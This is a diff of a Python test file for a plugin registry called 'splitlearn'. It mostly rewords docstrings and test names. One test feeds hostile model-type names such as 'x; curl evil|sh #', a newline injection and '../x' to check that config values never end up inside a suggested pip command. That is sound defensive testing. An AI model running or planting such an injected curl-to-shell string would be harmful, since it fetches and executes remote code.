@@ -1,4 +1,4 @@
-"""Which plugins there are: from metadata alone, whatever state the metadata is in."""
+"""Plugins are discovered from metadata alone, whatever state the metadata is in."""
 
 from __future__ import annotations
 
@@ -24,7 +24,7 @@ def rows(*, check: bool = False) -> dict[str, PluginStatus]:
 
 
 def test_listing_imports_no_plugin(world: Any) -> None:
-    """Statuses and model types come from metadata and source."""
+    """Statuses and model types come from metadata."""
     for name in ("alpha", "beta"):
         world.install(name, world.marking(name) + world.source(name))
 
@@ -38,7 +38,7 @@ def test_listing_imports_no_plugin(world: Any) -> None:
 
 
 def test_using_a_type_imports_its_plugin_only(world: Any) -> None:
-    """The entry point's name decides; the other plugin's module is not run."""
+    """The name of the entry point decides; the other plugin is not imported."""
     for name in ("alpha", "beta"):
         world.install(name, world.marking(name) + world.source(name))
 
@@ -65,7 +65,7 @@ def test_using_a_checkpoint_imports_its_plugin_only(world: Any, single: Path) ->
 
 
 def test_a_plugin_below_a_package_is_not_imported_by_a_list(world: Any) -> None:
-    """A dotted module is looked at without importing its parent package."""
+    """A dotted module is looked up without importing its parent package."""
     info = world.install("alpha")
     package = world.folder / "alpha_package"
     package.mkdir()
@@ -99,7 +99,7 @@ def test_two_claims_matter_only_when_the_type_is_used(world: Any) -> None:
 
 @pytest.mark.parametrize("name", ["one-alpha", "One_Alpha", "ONE.ALPHA", " one-alpha , nothing", "beta,one--alpha"])
 def test_the_block_list_resolves_a_conflict(world: Any, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
-    """A distribution is blocked by its name in any spelling that pip takes for the same."""
+    """A distribution is blocked by its name in any spelling that pip accepts."""
     world.install("alpha", world.source("alpha").replace("Llama", "One"), distribution="one-alpha")
     world.install("alpha", world.source("alpha").replace("Llama", "Two"), distribution="two-alpha")
     monkeypatch.setenv("SPLITLEARN_DISABLE_PLUGINS", name)
@@ -192,7 +192,7 @@ def test_block_wins_over_allow(world: Any, monkeypatch: pytest.MonkeyPatch) -> N
     ],
 )
 def test_an_incompatible_plugin_is_refused_before_import(world: Any, options: dict[str, str], named: list[str]) -> None:
-    """Metadata says it: the message names both versions, the hint is a pip line, no line of it runs."""
+    """The refusal needs only metadata: the message names both versions, the hint is a pip command."""
     world.install("alpha", world.marking("alpha") + world.source("alpha"), version="3.1.4", **options)
     world.install("beta")
 
@@ -220,14 +220,14 @@ def test_an_incompatible_plugin_is_refused_before_import(world: Any, options: di
     ids=["api 1", "old enough", "nothing", "another distribution", "a marker that is false", "an extra"],
 )
 def test_a_compatible_plugin_is_used(world: Any, options: dict[str, str]) -> None:
-    """A demand that does not hold here, or is not about core, keeps nothing out."""
+    """A requirement that does not apply here, or is not about core, refuses nothing."""
     world.install("alpha", **options)
 
     assert registry().family("alpha").model_type == "alpha"
 
 
-def test_every_demand_on_core_counts(world: Any) -> None:
-    """Two Requires-Dist lines about core both have to hold."""
+def test_every_requirement_of_core_counts(world: Any) -> None:
+    """Two Requires-Dist lines about core must both be satisfied."""
     info = world.install("alpha", requires=">=0.0.1")
     with (info / "METADATA").open("a") as file:
         file.write("Requires-Dist: splitlearn-core<0.0.2\n")
@@ -237,7 +237,7 @@ def test_every_demand_on_core_counts(world: Any) -> None:
 
 
 def test_an_unknown_type_is_a_readable_key_error(world: Any) -> None:
-    """The message lists what is installed, and the hint makes no command of a name that no table has."""
+    """The message lists the installed types; the hint has no command with a name that no table lists."""
     world.install("alpha")
     world.install("beta")
 
@@ -336,8 +336,8 @@ DAMAGE: dict[str, Callable[[Path], object]] = {
 
 
 @pytest.mark.parametrize("damage", DAMAGE.values(), ids=list(DAMAGE))
-def test_damaged_metadata_harms_only_its_own(world: Any, damage: Callable[[Path], object]) -> None:
-    """The list and the other plugin work; using the damaged one gives an error of ours, or works."""
+def test_damaged_metadata_affects_only_its_plugin(world: Any, damage: Callable[[Path], object]) -> None:
+    """The list and the other plugin work; using the damaged one raises a SplitLearnError, or works."""
     info = world.install("alpha")
     world.install("beta")
     damage(info)
@@ -380,7 +380,7 @@ UNUSUAL = {
 
 @pytest.mark.parametrize("source", UNUSUAL.values(), ids=list(UNUSUAL))
 def test_a_plugin_that_works_is_not_listed_as_broken(world: Any, source: str) -> None:
-    """What the source does not tell is no reason for an alarm."""
+    """A list does not report what only an import can show."""
     world.install("alpha", source)
 
     listed = rows()["alpha"]
@@ -406,7 +406,7 @@ def test_an_object_that_works_is_not_listed_as_broken(world: Any) -> None:
 
 
 def test_a_list_finds_a_module_that_is_not_installed(world: Any) -> None:
-    """Found by the import system alone; the rest shows when the plugin is imported."""
+    """The import system finds that alone; other problems appear when the plugin is imported."""
     info = world.install("alpha")
     (info / "entry_points.txt").write_text("[splitlearn.families]\nalpha = surely_absent_package.hooks\n")
 
@@ -460,7 +460,7 @@ def test_a_check_names_each_fault_with_its_fix(world: Any, source: str, named: s
 
 
 @pytest.mark.parametrize(
-    ("record", "origin", "said"),
+    ("record", "origin", "expected"),
     [
         (None, "", "index"),
         ({"url": "file:///some/where", "dir_info": {"editable": True}}, "/some/where", "editable /some/where"),
@@ -472,9 +472,9 @@ def test_a_check_names_each_fault_with_its_fix(world: Any, source: str, named: s
     ids=["index", "editable", "local", "wheel", "source archive", "url"],
 )
 def test_a_row_says_where_the_plugin_came_from(
-    world: Any, cli: Any, record: dict[str, object] | None, origin: str, said: str
+    world: Any, cli: Any, record: dict[str, object] | None, origin: str, expected: str
 ) -> None:
-    """PEP 610's record tells an editable checkout from the rest, and a folder from a file."""
+    """The record of PEP 610 distinguishes editable checkouts, folders and files."""
     info = world.install("alpha")
     if record is not None:
         (info / "direct_url.json").write_text(json.dumps(record))
@@ -482,10 +482,10 @@ def test_a_row_says_where_the_plugin_came_from(
     entry = rows()["alpha"].entry
     code, out, _ = cli("plugins")
 
-    assert (entry.origin, entry.editable) == (origin, said.startswith("editable"))
+    assert (entry.origin, entry.editable) == (origin, expected.startswith("editable"))
     (line,) = (line for line in out.splitlines() if line.startswith("alpha "))
     assert code == 0
-    assert f" ready   {said}" in line
+    assert f" ready   {expected}" in line
 
 
 @pytest.mark.parametrize(
@@ -524,7 +524,7 @@ def test_the_hint_says_where_to_fix_a_plugin(world: Any, record: dict[str, objec
     ids=["lacks a dependency", "fails before that"],
 )
 def test_a_check_reports_the_error_of_the_import(world: Any, source: str, reported: str) -> None:
-    """The first that was raised, and no other."""
+    """Only the first error is reported."""
     world.install("alpha", source)
 
     checked = rows(check=True)["alpha"]
@@ -533,15 +533,15 @@ def test_a_check_reports_the_error_of_the_import(world: Any, source: str, report
     assert checked.error.endswith(reported)
 
 
-def test_the_check_says_what_pip_is_to_install(world: Any) -> None:
-    """A missing dependency that an import found has its line."""
+def test_the_check_has_the_pip_command(world: Any) -> None:
+    """A dependency that is missing at import has its command."""
     world.install("alpha", "import surely_absent_package\n")
 
     assert rows(check=True)["alpha"].hint.startswith("pip install surely_absent_package;")
 
 
 def test_an_editable_plugin_of_another_core_is_not_to_be_upgraded(world: Any) -> None:
-    """An index cannot fix a checkout."""
+    """A package index has no newer version of a checkout."""
     info = world.install("alpha", requires=">=99")
     record = {"url": "file:///some/where", "dir_info": {"editable": True}}
     (info / "direct_url.json").write_text(json.dumps(record))
@@ -553,7 +553,9 @@ def test_an_editable_plugin_of_another_core_is_not_to_be_upgraded(world: Any) ->
     assert "upgrade splitlearn-alpha" not in row.hint
 
 
-def test_a_distribution_twice_on_the_path_is_one(world: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_distribution_twice_on_the_path_counts_once(
+    world: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The first copy on the path shadows the second, as it does for import; that is no conflict."""
     from splitlearn_core.testing.installing import write_plugin
 
@@ -565,7 +567,7 @@ def test_a_distribution_twice_on_the_path_is_one(world: Any, tmp_path: Path, mon
     assert registry().family("alpha").model_type == "alpha"
 
 
-def test_a_plugin_installed_later_is_seen_after_a_reset(world: Any) -> None:
+def test_a_plugin_installed_later_is_found_after_a_reset(world: Any) -> None:
     """``reset_registry`` forgets the scan."""
     with pytest.raises(UnknownModelTypeError):
         registry().family("alpha")
@@ -575,10 +577,8 @@ def test_a_plugin_installed_later_is_seen_after_a_reset(world: Any) -> None:
     assert registry().family("alpha").model_type == "alpha"
 
 
-def test_a_folder_that_was_not_there_is_seen_after_a_reset(
-    world: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """A plugin in a folder that came into being after the first import is found and can be imported."""
+def test_a_new_folder_is_found_after_a_reset(world: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A plugin in a folder that was created after the first import is found and can be imported."""
     from splitlearn_core.testing.installing import write_plugin
 
     monkeypatch.syspath_prepend(str(tmp_path / "later"))
@@ -595,7 +595,7 @@ def test_a_folder_that_was_not_there_is_seen_after_a_reset(
 
 @pytest.mark.parametrize("name", ["x; curl evil|sh #", "x\nhint: y", "../x", ""], ids=repr)
 def test_a_hostile_model_type_makes_no_command(world: Any, name: str) -> None:
-    """What config.json says is shown quoted, and never within a line to be typed."""
+    """A value of config.json is shown quoted, and never within a command."""
     with pytest.raises(UnknownModelTypeError) as caught:
         registry().family(name)
 
